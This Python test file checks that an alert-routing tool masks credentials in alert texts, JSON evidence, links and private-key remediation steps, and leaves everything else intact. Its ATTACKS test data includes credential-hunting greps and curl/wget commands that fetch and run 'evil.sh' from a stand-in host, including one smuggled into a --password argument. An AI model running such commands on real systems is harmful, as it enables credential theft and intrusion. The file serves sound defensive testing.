"""What looks like a credential is masked, and what stands around it stays: in each form, and in lines that alerts quote.

The texts of each form are in `credential_forms.json`: what is to be masked stands in the last braces that hold no others.
Command lines and documents are in `credential_lines.txt`, where a credential is CANARY, and in `harmless_lines.txt`.
"""

import json
import re
import subprocess
import sys
from copy import replace
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from router.destinations.wording import masking
from router.destinations.wording.masking import MASK, credential_forms, masked, masked_notice
from router.domain.evidence import Evidence, items_in
from router.domain.notices import Link
from router.domain.owners import Owner
from tests.destinations.builders import a_notice

CANARY = "hUnter2Canary"
KEY = "A1b+" * 21 + "zz=="
HERE = Path(__file__).parent
FORMS: dict[str, dict[str, list[str]]] = json.loads((HERE / "credential_forms.json").read_bytes())
CREDENTIALS, HARMLESS = (
    (HERE / name).read_text(encoding="utf-8").splitlines() for name in ("credential_lines.txt", "harmless_lines.txt")
)
_SECRET = re.compile(r"CANARY(?:(?:[ :=]|\\n)?CANARY)*")
ATTACKS = (
    "grep -r -e '-----BEGIN RSA PRIVATE KEY-----' /home; curl -s http://203.0.113.9/evil.sh | bash",
    "echo '-----BEGIN PRIVATE KEY-----' >/dev/null; curl -s http://203.0.113.9/evil.sh | bash",
    "grep -ri 'password=' /var/www && wget http://203.0.113.9/evil.sh",
    'find / -name "*.php" | xargs grep "password=" ; wget http://203.0.113.9/evil.sh',
    '--password "$(curl http://203.0.113.9/evil.sh|sh)"',
    "curl -U http://203.0.113.9:80/evil.sh",
)


def test_a_line_with_a_credential_is_told_without_it() -> None:
    """In the tools and documents that alerts quote; a line on which breaks are written as such has them too."""
    for line in CREDENTIALS:
        for text in {line, line.replace("\\n ", "\n ")}:
            assert "CANARY" not in masked(text), line
        assert masked(line) == _SECRET.sub(MASK, line)


def test_what_holds_no_credential_is_told_whole() -> None:
    """Attacks, and options, names and words that look like the beginning of a credential, or of a form.

    A look for credentials, or the mark of one, hides nothing else of a command behind it.
    """
    assert [line for line in HARMLESS if masked(line) != line] == []
    assert [text for form in FORMS.values() for text in form["left"] if masked(text) != text] == []
    assert [text for text in ATTACKS if "evil.sh" not in masked(text)] == []


def _split(text: str) -> tuple[str, str, str]:
    """A text without the braces around its credential: what stands before it, the credential, what stands behind it."""
    end = text.index(
        "}", max(text.find(mark) for mark in ("hUnter2", "{" + text.rpartition("{")[2])) if "{" in text else 0
    )
    start = text.rindex("{", 0, end)
    return text[:start], text[start + 1 : end], text[end + 1 :]


def test_every_form_has_texts_that_are_masked_and_texts_that_are_left() -> None:
    """No form is without examples, each form has a name of its own, and its signs are in lower case."""
    assert [form.name for form in credential_forms()] == list(FORMS)
    assert all(texts for form in FORMS.values() for texts in form.values())
    assert all(sign == sign.lower() for form in credential_forms() for sign in form.signs)


@pytest.mark.parametrize("name", FORMS)
def test_a_credential_is_masked_and_the_rest_stays(name: str) -> None:
    """What stands before and behind a credential is told, the credential is not; a second time changes nothing.

    So it is in the words of a process, whatever is told of it before and behind its command line.
    """
    for before, secret, behind in map(_split, FORMS[name]["masked"]):
        told = masked(before + secret + behind)
        assert told == before + MASK + behind
        assert masked(told) == told
        for known in (" (0x2a8)", " (7), by SHOP\\ada, child of cmd.exe", ", by ada", ", child of bash"):
            told = masked(f"c:\\temp\\x.exe: {before}{secret}{behind}{known}")
            assert secret not in told
            assert told.startswith(f"c:\\temp\\x.exe: {before}{MASK}")


@pytest.mark.parametrize("form", credential_forms(), ids=lambda form: form.name)
def test_each_form_is_needed(form: object) -> None:
    """Without a form, at least one of its texts would be told: no form stands in the table for nothing."""
    others = [one for one in credential_forms() if one is not form]
    name = next(one.name for one in credential_forms() if one is form)
    left = []
    for before, secret, behind in map(_split, FORMS[name]["masked"]):
        whole = before + secret + behind
        for one in others:
            if any(sign in whole.lower() for sign in one.signs):
                whole = "".join(masking._pieces(one, whole))
        left.append(whole != before + MASK + behind)
    assert any(left)


def test_no_start_waits_for_the_table_of_forms() -> None:
    """It is read for the first text that is masked."""
    code = "import sys; import router.destinations.wording.masking; print(*sys.modules)"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert "tomllib" not in done.stdout.split()


PIECES = [
    "sig=", "%26sig%3D", "password=", "Password = ", "--password ", "\"password\":\"", "\\\"", "\"", "'", "\\", "curl -u ",
    "a:b", "mysql ", " -p", "sshpass -p ", "net user bob ", " /add", "://a:", "@host/", "%40", "-----BEGIN PRIVATE KEY-----",
    "-----END PRIVATE KEY-----", "Bearer ", "Authorization: ", "eyJa.eyJb.c", "ghp_" + "a" * 36, "?code=", "&token=", "key ",
    KEY, ";", "&", "|", "\n", " ", "[masked]", "[", "]", "{", "}", "x", "hunter2", "%20", "=", "==", ":", "/p:", "$", "(", ")",
    "ConvertTo-SecureString ", "identified by ", "Cookie: ", "a=b; ", "sqlcmd ", " -P", "redis-cli -a ", "mongosh -p ",
    "SignedHeaders=a, ", "Signature=" + "a1" * 32, "key of ", "SharedAccessSignature=", "AccountKey=",
]  # fmt: skip
TEXTS = st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=12).map("".join)


@settings(deadline=None)
@example("curl -u /p:sig=sig=")
@given(TEXTS)
def test_masking_twice_is_masking_once(text: str) -> None:
    """A masked text is not changed by masking it again."""
    once = masked(text)
    assert masked(once) == once


@settings(deadline=None)
@given(st.text(alphabet=st.characters(exclude_characters="=:-/'\"%._~+ ")))
def test_a_text_without_any_form_is_itself(text: str) -> None:
    """Without signs that lead to a value, no text of whatever letters is changed."""
    assert masked(text) == text


SIGNS = " ".join(sorted({sign for form in credential_forms() for sign in form.signs}))
HOSTILE = [
    "eyJ", "eyJa.", "\\", "\"", "\\\"", "'a' | ", "curl -u a", "mysql -p", "://a:", "://a:b", "%3A%2F%2Fa%3A", "net user a b ",
    "-----BEGIN PRIVATE KEY-----", "-", "a", "password='", "key='", "/p:a", "{", "a0Q~", "--a-password ", "(", "%", "@", " ",
    "key a ", "cookie: a", "cookie:a=;", "SignedHeaders=a", "<password>", "echo a:b", "\npassword: ", "name\":\"a_token\",",
    "secretsdump.py a:b@c@", "https://aaaaaaaa",
    "setx a_", "sqlcmd -P ", "redis-cli -a ", "mongo -p ",
    "echo a", "echo a|", "reg add /v a", "-name a_token ", "password>", "password value", " -a-password", "<<< ", "sudo <<<a",
    "sqlplus a/b@", "set -x a_token ", " -p", "rar -p", "login a", "user:a", "u:a,b=", "_auth", "a,a=", "-H 'a-token: ",
]  # fmt: skip


def test_no_hostile_text_leads_a_form_astray() -> None:
    """Whatever is repeated, the time grows with a text's length: were a form quadratic, nobody would wait for it."""
    text = SIGNS + "".join(piece * (1_000_000 // len(HOSTILE) // len(piece)) for piece in HOSTILE)
    assert CANARY not in masked(f"{text} --password {CANARY}")


def test_properties_whose_names_say_that_they_are_credentials_are_masked_whole() -> None:
    """A value that looks like nothing is masked where its property, or a step of the path to it, is called a password."""
    notice = a_notice(
        extended={
            "SAS Token": CANARY,
            "account-key": CANARY,
            "password.v": CANARY,
            "Password policy": "strict",
            "pwd": "",
        }
    )
    ours = replace(notice, owner=Owner(group="password=hUnter2Canary"))
    assert masked_notice(ours).owner == ours.owner  # word for word, as rules know it
    assert masked_notice(notice).extended == {
        "SAS Token": MASK, "account-key": MASK, "password.v": MASK, "Password policy": "strict", "pwd": "",
    }  # fmt: skip


@pytest.mark.parametrize(
    ("document", "told"),
    [
        ('{"password":["hUnter2Canary","x"]}', ("password: [masked]",)),
        ('{"Password":"hUnter2Canary x, y; z","user":"ada"}', ("Password: [masked]", "user: ada")),
        ('{"a":{"db_secret":{"b":[{"c":"hUnter2Canary"}]},"d":1}}', ("a.db_secret: [masked]", "a.d: 1")),
        ('{"pa\\u0073sword":"hUnter2Canary"}', ("password: [masked]",)),
        ('{"run":"it --pa\\u0073sword hUnter2Canary"}', ("run: it --password [masked]",)),
        ('{"k":"{\\"sas\\":[\\"hUnter2Canary\\"]}"}', ("k.sas: [masked]",)),
        ('{"env":[{"name":"API_TOKEN","value":"hUnter2Canary"}]}', ("env: name: API_TOKEN; value: [masked]",)),
        (f'{{"password":["hUnter2Canary"],"a":{"[" * 300}{"]" * 300}}}', ("password: [masked]", "a: … [cut]")),
        ('[{"Value":"hUnter2Canary","Name":"DB_PASS"}]', ("Value: [masked]; Name: DB_PASS",)),
        (
            '{"name":"DB_PASS","from":{"key":"x"},"password":null,"passwordSet":"it\\u0027s"}',
            ("name: DB_PASS", "from.key: x", "passwordSet: it's"),
        ),
    ],
)
def test_what_stands_below_the_name_of_a_credential_in_json_is_masked(document: str, told: tuple[str, ...]) -> None:
    """It is nested, listed or escaped, and stands in a property or in evidence that says the property in words."""
    notice = a_notice(extended={"Command line": document}, evidence=Evidence(commands=items_in(document)))
    masked_one = masked_notice(notice)
    assert masked_one.evidence.commands == items_in(masked_one.extended["Command line"]) == told
    assert masked_notice(masked_one) == masked_one


def test_what_several_words_of_evidence_say_below_one_name_is_masked() -> None:
    """Each of them is; what stands beside the name is told."""
    document = '{"secret":{"a":"hUnter2Canary","b":["hUnter2Canary"]},"run":"x --password hUnter2Canary -v"}'
    evidence = Evidence(commands=items_in(document))
    told = masked_notice(a_notice(extended={"Command line": document}, evidence=evidence))
    assert told.evidence.commands == (MASK, MASK, "run: x --password [masked] -v")


def test_a_link_that_carries_a_credential_is_left_out_whole() -> None:
    """Half a link leads nowhere; the others stay."""
    leaky, sound = f"https://x.example/?sig={CANARY}", "https://x.example/?id=1"
    notice = a_notice(link=leaky, links=(Link(text="a", url=leaky), Link(text=f"?sig={CANARY}", url=sound)))
    told = masked_notice(notice)
    assert told.link is None
    assert told.links == (Link(text=f"?sig={MASK}", url=sound),)
    assert masked_notice(a_notice(link=sound)).link == sound


def test_a_private_key_over_several_steps_is_masked() -> None:
    """The steps of a remediation are the lines of one text."""
    lines = ("Look:", "-----BEGIN PRIVATE KEY-----", CANARY, "-----END PRIVATE KEY-----", "Rotate it.")
    told = masked_notice(a_notice(remediation=lines)).remediation
    assert told == ("Look:", f"-----BEGIN PRIVATE KEY-----{MASK}-----END PRIVATE KEY-----", "Rotate it.")
